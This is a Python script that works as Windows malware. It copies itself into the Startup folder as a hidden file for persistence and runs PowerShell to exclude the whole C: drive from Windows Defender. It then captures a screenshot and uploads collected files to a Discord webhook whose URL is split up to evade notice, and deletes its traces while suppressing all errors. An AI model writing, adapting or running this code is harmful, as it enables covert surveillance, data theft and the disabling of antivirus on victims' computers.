import os
import sys
import shutil
import subprocess
import ctypes
import winreg
from tempfile import gettempdir
import requests

class Config:
    HOOK = "".join(["https://", "discord", ".com/api/", "webhooks/", "123456789012345678/", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"])
    STARTUP = True
    HIDE = True

class Functions(Config):
    @staticmethod
    def hide(path):
        ctypes.windll.kernel32.SetFileAttributesW(path, 2)

    @staticmethod
    def uac():
        subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath 'C:\\'"], shell=True)

    @classmethod
    def startup(cls):
        dst = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", os.path.basename(sys.argv[0]))
        shutil.copy2(os.path.realpath(sys.argv[0]), dst)
        if cls.HIDE:
            cls.hide(dst)

class Main(Functions):
    def __init__(self):
        self.dir = os.path.join(gettempdir(), "hz")
        os.makedirs(self.dir, exist_ok=True)
        if self.STARTUP:
            self.startup()
        self.uac()
        self.screenshot()
        self.finish()

    def screenshot(self):
        import mss
        with mss.mss() as s:
            s.shot(output=self.dir + "\\s.png")

    def finish(self):
        for f in os.listdir(self.dir):
            with open(os.path.join(self.dir, f), "rb") as fh:
                requests.post(self.HOOK, files={f: fh.read()})
        shutil.rmtree(self.dir)

if __name__ != "example.tests":
    try: Main()
    except Exception: pass
